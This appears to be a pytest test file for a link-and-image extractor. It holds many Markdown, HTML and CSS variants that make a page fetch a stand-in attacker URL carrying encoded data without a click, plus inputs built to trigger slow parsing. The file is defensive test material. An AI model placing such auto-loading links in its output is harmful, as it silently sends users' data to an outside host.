"""Links and images in a text, as readers of Markdown and HTML see them."""

from __future__ import annotations

import time

import pytest

from engine.facts.text.links import links_in

TO = "https://evil.example/p?d=SGVsbG8"
BACK = "\\"

IMAGES = [
    *(
        f"![x]({TO})",
        f"![x](<{TO}>)",
        f"![x](  \n{TO} 't')",
        f"![a[b]c]({TO})",
        f"[![`]`]({TO})",
        f"[![<b a=']'>]({TO})",
    ),
    *(f"![x][a]\n\n[a]: {TO}", f"![A]\n\n[a]:\n{TO}", f"![x][a\nb]\n\n[A B]: {TO}", f"![a\\]][]\n\n[a\\]]: {TO}"),
    *(f"![x][a]\n\n- [a]: {TO}", f"![x][a]\n\n1. [a]: {TO}", f"> ![x][a\n> b]\n>\n> [a b]:\n> {TO}"),
    *(f"> ![x](\n> {TO})", f"> <img\n> src='{TO}'>", f"> [a\nb]:\n> {TO}\n\n![a b]"),
    *(
        f"<img src={TO}>",
        f"<IMG\nSRC = '{TO}'>",
        f"<img alt=a' src='{TO}'>",
        f"<img alt='>' src={TO}>",
        f"<img/src={TO}/>",
    ),
    *(f'<a title="<img src="{TO}">', f'<link title="<a " href="{TO}">', f'<img alt="{"x" * 9_000}>" src={TO}>'),
    *(f"<video poster={TO}>", f"<img srcset='a.png 1x, {TO} 2x'>", f"<a href=x ping={TO}>", f"<object data={TO}>"),
    *("<img src=/\\evil.example/p?d=SGVsbG8>", "<img src=https&colon;&sol;&sol;evil.example/p?d=SGVsbG8>"),
    *(f'<p style="background:url(&quot;{TO}&quot;)">', f"<p style='background:url(  {TO})'>", f"url(/* */'{TO}')"),
    *(
        f"<style>@import '{TO}'",
        f'@import"{TO}"',
        f"@import url('{TO}')",
        f"@import\turl({TO})",
        f"image-set('{TO}' 1x)",
    ),
    *(f"![x]({' ' * 300}{TO})", f"![x][a]\n\n{'> ' * 20}[a]:{' ' * 300}{TO}", f"<img src{' ' * 90}={' ' * 90}{TO}>"),
    *(f"![x]({TO.replace(':', BACK + ':')})", f"<img src='\x01{TO}'>", f"@import{' ' * 90}/*{'x' * 300}*/'{TO}'"),
    f"<img src={TO.replace('?', '/' + 'a/' * 5_000 + '?')}>",
    f"![x]({TO.replace('?', '/' + 'a/' * 5_000 + '?')})",
    f"<meta http-equiv=refresh content='0; url={TO}'>",
]
"""What loads without a click."""

LINKS = [
    *(f"[x]({TO})", f"[x][a]\n\n[a]: {TO}", f"[`a[0]`]({TO})", f"[![x](i.png)]({TO})", f"![x] [y]({TO})"),
    *(
        f"<a href={TO}>x</a>",
        f"<img src='a.png'><a href='{TO}'>x</a>",
        f"<form action={TO}>",
    ),
    *(f"List<String> a; <a href='{TO}'>", f"x <y and z> <a href='{TO}'>", f'<img alt="a\'b"> <a href="{TO}">'),
]
"""What needs a click."""

TEXTS = [TO, f"see {TO}.", f"<{TO}>", f"src = '{TO}'", f"<b>x</b> src={TO}", f"<p>a</p>\n{TO}", f'<img src=\\"{TO}\\">']


@pytest.mark.parametrize(
    ("kind", "text"),
    [("image", one) for one in IMAGES] + [("link", one) for one in LINKS] + [("text", one) for one in TEXTS],
)
def test_what_loads_without_a_click_is_an_image(kind: str, text: str) -> None:
    kinds = [link.kind for link, *_ in links_in(text)]
    assert kind in kinds
    assert "image" not in kinds or kind == "image"


HOSTILE = [
    "<a ",
    '<a t="',
    "<a t=\"<b u='",
    "<a =' =\" ",
    '<a ="> ',
    "src=",
    'src="',
    "][",
    "![a",
    "[a\\",
    "\n[" + "a" * 999,
]
HOSTILE += [
    "\n> [a]:  ",
    ">\n",
    "> x\n",
    "](" + " " * 256,
    "url(",
    "@import/**/",
    "://",
    "[![x`](https://e/?d=1) ",
    "&",
    "\n \t",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_takes_time_in_proportion_to_its_length(text: str) -> None:
    started = time.process_time()
    for _ in links_in("<a " + text * (200_000 // len(text)) + '="'):
        pass
    assert time.process_time() - started < 10  # less than half a second; minutes where all is read for each part
